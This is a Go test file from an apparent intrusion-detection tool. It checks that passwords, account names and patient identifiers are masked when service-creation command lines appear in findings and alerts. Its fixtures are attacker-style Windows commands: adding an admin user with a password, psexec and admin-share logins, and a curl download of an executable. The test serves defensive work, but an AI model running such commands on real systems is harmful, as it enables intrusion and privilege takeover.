package app

import (
	"bytes"
	"crypto/sha256"
	"encoding/hex"
	"io"
	"strings"
	"testing"

	"lazaret/internal/cmdline"
	"lazaret/internal/detect"
	"lazaret/internal/event"
	"lazaret/internal/proto/dcerpc"
	"lazaret/internal/report"
	"lazaret/internal/report/alerts"
	"lazaret/internal/report/terminal"
)

// Commands stay readable in findings, alerts and logs, without the passwords, the accounts
// and the identifiers of patients in them.
func TestCommandsAreTold(t *testing.T) {
	mark := cmdline.Marker(func(kind string, v []byte) string {
		h := sha256.Sum256(append([]byte(kind), v...))
		return hex.EncodeToString(h[:])
	})
	canaries := []string{"hunter2", "4711", "roe", "1234567", "1.2.840.113619.2.55.3.6049"}
	for line, told := range map[string]string{
		`C:\Windows\System32\WmiApSrve.exe -k netsvcs`:         `C:\Windows\System32\WmiApSrve.exe -k netsvcs`,
		`net user roe hunter2 /add`:                            `net user ~`,
		`net localgroup administrators CLINIC\roe /add`:        `net localgroup administrators CLINIC\~`,
		`cmd /c net use z: \\pacs\c$ hunter2 /user:CLINIC\roe`: `net use z: \\pacs\c$ ~ /user:CLINIC\~`,
		`schtasks /create /ru roe /rp hunter2 /tn x`:           `schtasks /create /ru ~`,
		`psexec -u CLINIC\roe -p "hunter2" cmd`:                `psexec -u CLINIC\~`,
		`C:\Users\roe\AppData\Local\x.exe`:                     `\AppData\Local\x.exe`,
		`robocopy D:\archive\1234567 \\pacs\E$\ROE^JANE`:       `robocopy D:\archive\~`,
		`curl http://roe:hunter2@198.51.100.9/x.exe`:           `@198.51.100.9/x.exe`,
		`viewer.exe 1.2.840.113619.2.55.3.6049`:                `viewer.exe ~`,
	} {
		r := &event.Record{Body: &dcerpc.Record{Endpoint: "svcctl", Operation: "CreateServiceW", Command: mark.Command(line), User: "CLINIC\\roe"}}
		facts := detect.FactsOf(r, "operation", "command", "user")
		rule := &detect.Rule{ID: "X1", Title: "A service", Why: "It runs.", Attack: []string{"T1543.003"}}
		d := &report.Document{Findings: report.NewFindings([]detect.Finding{{Rule: rule, Severity: detect.High, Facts: facts, Count: 1}},
			report.NewDirectory(nil), func(string) string { return "account-mark" })}
		var out bytes.Buffer
		for _, f := range append(alerts.Formats(), report.Format{Name: "text", Write: func(w io.Writer, d *report.Document) error {
			return terminal.Print(w, d, 0, "")
		}}) {
			if err := f.Write(&out, d); err != nil {
				t.Fatal(err)
			}
		}
		got := strings.ToLower(out.String())
		for _, c := range canaries {
			if strings.Contains(got, c) {
				t.Errorf("%s: %s is told:\n%s", line, c, got)
			}
		}
		if value := d.Findings[0].Evidence[1]; value.Account || !strings.Contains(value.Value, told) {
			t.Errorf("%s is told as %+v, want %s", line, value, told)
		}
		if user := d.Findings[0].Evidence[2]; user.Value != "account-mark" {
			t.Errorf("the account is told as %s", user.Value)
		}
	}
}
